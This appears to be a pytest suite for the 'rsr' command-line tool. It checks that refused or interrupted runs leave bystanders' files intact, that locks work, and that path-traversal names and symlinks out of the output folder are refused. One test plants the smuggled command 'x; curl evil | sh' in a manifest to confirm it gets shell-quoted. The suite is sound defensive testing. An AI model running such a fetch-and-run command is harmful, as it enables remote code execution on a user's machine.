"""Whoever is refused or stopped before a run begins leaves everything as it was."""

import json
import os
import threading
import time
from contextlib import suppress
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from rsr.jobs.cli import main
from rsr.jobs.errors import Interrupted, UsageError
from rsr.jobs.interrupt import StopRequest
from rsr.jobs.run.folder import RunFolder
from rsr.jobs.run.manifest import Identity, Manifest
from rsr.jobs.run.opening import hold_output
from rsr.jobs.storage import open_storage
from rsr.jobs.storage.locks import hold_local

WANTED = Manifest(writer="filter", identity=Identity({}), shards=())


def snapshot(root: Path) -> dict[str, object]:
    """Everything below `root`: folders, links by where they lead, files by their bytes.

    Of a lock, that it is there: whoever held it last has left its name.
    """
    found: dict[str, object] = {}
    for parent, folders, files in os.walk(root):
        for name in (*folders, *files):
            path = Path(parent) / name
            kind: object = path.read_bytes() if path.is_file() else "folder"
            if path.name == "lock" and path.parent.name.endswith(".rsr"):
                kind = "lock"
            if path.is_symlink():
                kind = ("link", os.readlink(path))
            found[str(path.relative_to(root))] = kind
    return found


class Bystander:
    """Somebody who works in the same folders while a run prepares."""

    def __init__(self, root: Path, *, stop_at: int | None = None) -> None:
        self.root, self.stop_at, self.num_checks = root, stop_at, 0

    def stop_request(self) -> type[StopRequest]:
        bystander = self

        class Watched(StopRequest):
            def check(self) -> None:
                bystander.look()

        return Watched

    def look(self) -> None:
        self.num_checks += 1
        for place in (self.root / "new" / "other", self.root / "new" / "out"):
            place.mkdir(parents=True, exist_ok=True)
            (place / "finished.parquet").write_bytes(b"somebody else's night")
        (self.root / "new" / "out" / "empty").mkdir(exist_ok=True)
        # Two threads may count at once.
        if self.stop_at is not None and self.num_checks >= self.stop_at:
            raise Interrupted

    @property
    def left(self) -> dict[str, object]:
        if not self.num_checks:
            return {}
        content = b"somebody else's night"
        return {
            "new": "folder", "new/other": "folder", "new/out": "folder", "new/out/empty": "folder",
            "new/other/finished.parquet": content, "new/out/finished.parquet": content,
        }  # fmt: skip


def arguments(command: str, root: Path, student: Path) -> list[str]:
    out = str(root / "new" / "out")
    return {
        "score": ["score", str(root / "in"), out, "--model", str(student)],
        "filter": ["filter", str(root / "scored"), out, "--keep-rows", "2"],
        "select": ["select", str(root / "scored"), out, "--group-by", "problem"],
    }[command]


@pytest.fixture
def root(tmp_path, write_scored):
    columns = {"problem": ["a", "a", "b"], "text": ["x", "y", "z"]}
    write_scored(tmp_path / "scored" / "s.parquet", [1.0, 2.0, 3.0], columns=columns)
    write_scored(tmp_path / "scored" / "t.parquet", [1.0, 2.0, 3.0], columns=columns)
    (tmp_path / "in").mkdir()
    for name in ("a", "b"):
        rows = [{"prompt": "p", "response": "r"}] * 3
        (tmp_path / "in" / f"{name}.jsonl").write_text("\n".join(map(json.dumps, rows)))
    return tmp_path


REFUSALS = {
    "score": [
        ["--model", "/nonexistent/model"],
        ["--text-column", "missing"],
        ["--chat-template", "/nonexistent/template.jinja"],
    ],
    "filter": [["--where", "missing = 1"], ["--id-column", "missing"], ["--max-rsr", "0.1"]],
    "select": [["--require", "missing"], ["--max-share-per", "problem=0.1"], ["--id-column", "no"]],
}


@pytest.mark.parametrize(
    ("command", "options"),
    [(command, options) for command, listed in REFUSALS.items() for options in listed],
    ids=lambda value: value if isinstance(value, str) else value[0],
)
def test_refusal_leaves_what_others_put_there(root, tiny_student, monkeypatch, command, options):
    before, bystander = snapshot(root), Bystander(root)
    monkeypatch.setattr("rsr.jobs.command.StopRequest", bystander.stop_request())
    result = CliRunner().invoke(main, [*arguments(command, root, tiny_student), *options])
    assert result.exit_code == 2, result.output
    assert snapshot(root) == before | bystander.left


@pytest.mark.parametrize("command", ["score", "filter", "select"])
@pytest.mark.parametrize("stop_at", [1, 2])
def test_ctrl_c_while_preparing_leaves_what_others_put_there(
    root, tiny_student, monkeypatch, command, stop_at
):
    before, bystander = snapshot(root), Bystander(root, stop_at=stop_at)
    monkeypatch.setattr("rsr.jobs.command.StopRequest", bystander.stop_request())
    result = CliRunner().invoke(main, arguments(command, root, tiny_student))
    if result.exit_code == 0 or bystander.num_checks < stop_at:
        pytest.fail(f"{command} looked {bystander.num_checks} times only: {result.output}")
    assert result.exit_code == 75, result.output
    if (root / "new" / "out" / ".rsr" / "manifest.json").exists():
        # It had begun: its own folder is its own then, and the same command goes on.
        after = {n: v for n, v in snapshot(root).items() if not n.startswith("new/out/")}
        assert after == {
            n: v for n, v in (before | bystander.left).items() if not n.startswith("new/out/")
        }
        return
    assert snapshot(root) == before | bystander.left


def test_two_runs_under_one_new_parent(tmp_path):
    """One is refused when the other has begun: the folder that it made first is not its own."""
    first, second = tmp_path / "new" / "a", tmp_path / "new" / "b"
    with suppress(UsageError), hold_output(first, writer="filter", overwrite=False):
        with hold_output(second, writer="filter", overwrite=False) as held:
            held.begin(WANTED)
        raise UsageError("refused")
    assert not first.exists()
    assert RunFolder(second).require_run() == WANTED
    # Its lock is there, so that a third run on it is still kept out.
    assert (second / ".rsr" / "lock").exists()


def num_open(path: Path) -> int:
    """How often this process has the file open."""
    count = 0
    for link in Path("/proc/self/fd").iterdir():
        with suppress(OSError):
            count += os.readlink(link) == str(path)
    return count


def test_lock_that_goes_with_its_folder_lets_the_next_one_in(tmp_path):
    path = tmp_path / "new" / ".rsr" / "lock"
    entered = threading.Event()

    def wait_for_it():
        with hold_local(path):
            entered.set()

    waiter = threading.Thread(target=wait_for_it)
    with hold_local(path):
        waiter.start()
        # It must have the file open that goes, and not make the next one itself.
        while num_open(path) < 2:
            time.sleep(0.001)
        path.unlink()
        # A third one makes the file anew while two others hold and await the old one.
        with hold_local(path):
            entered.wait(0.2)
            assert not entered.is_set()
    waiter.join()
    assert entered.is_set()


def test_staged_objects_go_again_when_a_run_is_refused(s3_url):
    out = f"{s3_url}/out"
    open_storage(s3_url).write("theirs", b"x")
    with suppress(UsageError), hold_output(out, writer="score", overwrite=False) as held:
        held.use_staged(".rsr/staged/a.parquet", is_new=True)
        held.folder.storage.write(".rsr/staged/a.parquet", b"staged")
        open_storage(out).write("meanwhile.txt", b"y")
        raise UsageError("refused")
    assert [file.name for file in open_storage(s3_url).list()] == ["out/meanwhile.txt", "theirs"]


@pytest.mark.seconds
@pytest.mark.parametrize("text", ["", "{}", "[1]", "null", '{"format": 1}', "\x00\xff", "[" * 9999])
@pytest.mark.parametrize("command", ["filter", "select"])
def test_damaged_manifest_is_one_line_with_a_way_out_that_works(root, tiny_student, command, text):
    line = arguments(command, root, tiny_student)
    assert CliRunner().invoke(main, line).exit_code == 0
    out = root / "new" / "out"
    good = {p: p.read_bytes() for p in out.glob("*.parquet")}
    (out / ".rsr" / "manifest.json").write_bytes(text.encode("latin-1"))
    # What a process that was killed while it wrote leaves is nobody else's file.
    (out / ".scored.parquet.0123abcd.rsr-tmp").touch()
    for other in (["status", str(out)], ["verify", str(out)], line):
        result = CliRunner().invoke(main, other)
        assert result.exit_code == 2, result.output
        assert len(result.stderr.splitlines()) == 1
        assert "--overwrite" in result.stderr
    result = CliRunner().invoke(main, [*line, "--overwrite"])
    assert result.exit_code == 0, result.output
    assert {p: p.read_bytes() for p in out.glob("*.parquet")} == good
    assert CliRunner().invoke(main, ["verify", str(out), "--deep"]).exit_code == 0


def test_run_that_lost_its_manifest_beside_a_strangers_file(root, tiny_student):
    line = arguments("filter", root, tiny_student)
    assert CliRunner().invoke(main, line).exit_code == 0
    out = root / "new" / "out"
    (out / ".rsr" / "manifest.json").unlink()
    (out / "thesis.txt").write_text("mine")
    before = snapshot(root)
    for options in ([], ["--overwrite"]):
        result = CliRunner().invoke(main, [*line, *options])
        assert result.exit_code == 2
        assert "thesis.txt" in result.stderr
        assert snapshot(root) == before


@pytest.mark.seconds
@pytest.mark.parametrize(
    "name",
    ["../precious.txt", "/tmp/precious.txt", "a/../../precious.txt", ".rsr/lock", "", "a\0b"],
)
def test_manifest_that_names_files_elsewhere_is_refused(root, tiny_student, name):
    line = arguments("filter", root, tiny_student)
    assert CliRunner().invoke(main, line).exit_code == 0
    (root / "new" / "precious.txt").write_text("mine")
    path = root / "new" / "out" / ".rsr" / "manifest.json"
    values = json.loads(path.read_text())
    values["shards"][0]["name"] = name
    path.write_text(json.dumps(values))
    for command in (line, ["verify", str(root / "new" / "out")]):
        result = CliRunner().invoke(main, command)
        assert result.exit_code == 2
        assert "which is no file of OUTPUT" in result.stderr
    # What receipts vouch for goes, nothing else.
    assert CliRunner().invoke(main, [*line, "--overwrite"]).exit_code == 0
    assert (root / "new" / "precious.txt").read_text() == "mine"


def test_command_out_of_a_manifest_is_words_not_shell(make_run):
    run = make_run({"a.parquet": pa.table({"text": ["x"]})})
    path = Path(run.output.root) / ".rsr" / "manifest.json"
    values = json.loads(path.read_text())
    values["command"] = ["rsr", "score", "x; curl evil | sh"]
    path.write_text(json.dumps(values))
    result = CliRunner().invoke(main, ["verify", str(run.output.root), "--json"])
    assert json.loads(result.stdout)["repair"] == ["rsr score 'x; curl evil | sh'"]


def test_nothing_is_written_or_removed_through_a_link_out_of_output(root, tiny_student):
    outside = root / "outside"
    outside.mkdir()
    (outside / "s.parquet").write_bytes(b"theirs")
    corpus, out = root / "deep", root / "new" / "out"
    (corpus / "d").mkdir(parents=True)
    (corpus / "d" / "s.parquet").write_bytes((root / "scored" / "s.parquet").read_bytes())
    line = ["filter", str(corpus), str(out), "--keep-rows", "2"]
    assert CliRunner().invoke(main, line).exit_code == 0
    (out / "d" / "s.parquet").unlink()
    (out / "d").rmdir()
    (out / "d").symlink_to(outside)
    for options in ([], ["--overwrite"]):
        result = CliRunner().invoke(main, [*line, *options])
        assert result.exit_code in (1, 2), result.output
        assert "leads out of" in result.stderr
        assert snapshot(outside) == {"s.parquet": b"theirs"}


NAMES = st.sampled_from(["a", "b", "new", "out", ".rsr", "x.parquet"])
PATHS = st.lists(NAMES, min_size=1, max_size=3).map("/".join)
ENTRIES = st.lists(st.tuples(PATHS, st.sampled_from(["file", "folder", "link"]), PATHS), max_size=8)
OUTCOMES = st.sampled_from(["refused", "stopped", "done"])
RUNS = st.lists(st.tuples(PATHS, OUTCOMES, st.booleans()), min_size=1, max_size=4)


@pytest.mark.seconds
@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(entries=ENTRIES, runs=RUNS)
@example(
    entries=[("a", "file", "a"), ("b", "link", "new"), ("new", "folder", "a")],
    runs=[("b/a", "done", False)],
)
def test_any_tree_stays_but_for_the_outputs_of_runs_that_began(tmp_path_factory, entries, runs):
    base = tmp_path_factory.mktemp("tree")
    tree, source = base / "tree", base / "in"
    tree.mkdir()
    source.mkdir()
    pq.write_table(pa.table({"text": ["x"]}), source / "s.parquet")
    for path, kind, target in entries:
        place = tree / path
        with suppress(OSError):
            place.parent.mkdir(parents=True, exist_ok=True)
            if kind == "file":
                place.write_text(path)
            elif kind == "folder":
                place.mkdir()
            else:
                place.symlink_to(tree / target)
    for path, outcome, overwrite in runs:
        before = snapshot(tree)
        output = tree / path
        has_begun = False
        with (
            suppress(UsageError, Interrupted, OSError),
            hold_output(output, writer="filter", overwrite=overwrite) as held,
        ):
            if outcome == "refused":
                raise UsageError("no")
            if outcome == "stopped":
                raise Interrupted
            held.begin(WANTED)
            has_begun = True
        after = snapshot(tree)
        if not has_begun:
            assert after == before
            continue
        # By its own name, and by that of what a link on the way leads to.
        there = output.resolve()
        places = (output, *output.parents, there, *there.parents)
        own = {str(p.relative_to(tree)) for p in places if p != tree and p.is_relative_to(tree)}
        state = os.path.relpath(RunFolder(output).state.resolve(), tree)
        gone = {n: v for n, v in before.items() if after.get(n) != v}
        assert all(n.startswith(f"{state}/") for n in gone), gone
        new = {n for n in after.keys() - before.keys() if n not in own}
        assert all(n == state or n.startswith(f"{state}/") for n in new), new
